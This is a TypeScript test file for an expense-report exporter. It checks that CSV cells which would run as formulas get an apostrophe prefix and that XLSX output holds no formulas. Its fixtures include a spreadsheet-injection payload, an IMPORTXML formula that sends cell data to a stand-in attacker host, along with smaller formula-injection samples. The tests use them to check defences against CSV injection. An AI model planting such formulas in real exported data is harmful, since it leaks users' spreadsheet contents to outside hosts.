import { readXlsx } from 'hucre/xlsx';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { expenseRow } from '#testing/data/expenses.ts';
import type { ExpenseRow } from '../record.ts';
import { exportReport } from './export.ts';

const row = (_rowIndex: number, part: Partial<ExpenseRow>) =>
  expenseRow(_rowIndex, 'Taxi', { date: '2025-11-21', amount: 12.5, ...part });

const hostile = '=IMPORTXML("https://evil.example/?"&A1;"//a")';
const rows = [
  row(2, {}),
  row(3, { description: hostile, notes: 'two\nlines, "quoted"' }),
  row(4, { amount: -3, receipt: '-12', notes: '+1 555 0100', category: '@SUM(A1)' }),
  row(5, { amount: '12abc', notes: '\t=1+1' }),
];

describe('the CSV of a report', () => {
  it('reads back as it was, but for an apostrophe before what would run as a formula', async () => {
    const { bytes } = await exportReport({ name: 'Trip' }, rows, 'csv');
    const { data, errors } = Papa.parse<string[]>(new TextDecoder().decode(bytes), { skipEmptyLines: true });
    expect(errors).toEqual([]);
    expect(data[0]).toEqual(['Date', 'Description', 'Category', 'Amount', 'Receipt', 'Photo', 'Notes']);
    expect(data[1]).toEqual(['2025-11-21', 'Taxi', 'Travel', '12.5', '', '', '']);
    expect(data[2]?.[1]).toBe(`'${hostile}`);
    expect(data[2]?.[6]).toBe('two\nlines, "quoted"');
    expect(data[3]).toEqual(['2025-11-21', 'Taxi', "'@SUM(A1)", '-3', "'-12", '', "'+1 555 0100"]);
    expect(data[4]?.[3]).toBe('12abc');
    expect(data[4]?.[6]).toBe("'\t=1+1");
  });

  it('opens as UTF-8 in Excel, with line ends of its own', async () => {
    const { bytes } = await exportReport({ name: 'Trip' }, rows, 'csv');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(Buffer.from(bytes).toString()).toContain('\r\n');
  });

  it('holds its headers when the report is empty', async () => {
    const { bytes } = await exportReport({ name: 'Trip' }, [], 'csv');
    expect(Buffer.from(bytes).toString('utf8').trim()).toContain('Date,Description,Category');
  });
});

describe('the XLSX of a report', () => {
  it('keeps amounts numbers and everything else text, formulas too', async () => {
    const { bytes } = await exportReport({ name: 'Trip' }, rows, 'xlsx');
    const workbook = await readXlsx(bytes);
    const [sheet] = workbook.sheets;
    expect(sheet?.name).toBe('Expenses');
    expect(sheet?.rows[1]?.slice(0, 4)).toEqual(['2025-11-21', 'Taxi', 'Travel', 12.5]);
    expect(sheet?.rows[2]?.[1]).toBe(hostile);
    expect(sheet?.rows[3]?.[3]).toBe(-3);
    expect(sheet?.rows[4]?.[3]).toBe('12abc');
  });

  it('counts a payment with a rate and a blank amount, as the report on paper does', async () => {
    const abroad = row(2, { amount: '', currency: 'EUR', paid: 414, rate: 1.1744 });
    const { bytes } = await exportReport({ name: 'Trip', currency: 'USD' }, [abroad], 'xlsx');
    expect((await readXlsx(bytes)).sheets[0]?.rows[1]?.[3]).toBe(486.2);
  });

  it('holds no formula', async () => {
    const { bytes } = await exportReport({ name: 'Trip' }, rows, 'xlsx');
    const workbook = await readXlsx(bytes);
    const formulas = [...(workbook.sheets[0]?.cells?.values() ?? [])].filter(
      (cell) => cell.formula !== undefined,
    );
    expect(formulas).toEqual([]);
  });
});

it('is named after the report, without what no file name may hold', async () => {
  const { downloadName } = await exportReport({ name: 'Q4/2025: "fair"' }, rows, 'xlsx');
  expect(downloadName).toBe('Q4-2025 fair.xlsx');
});
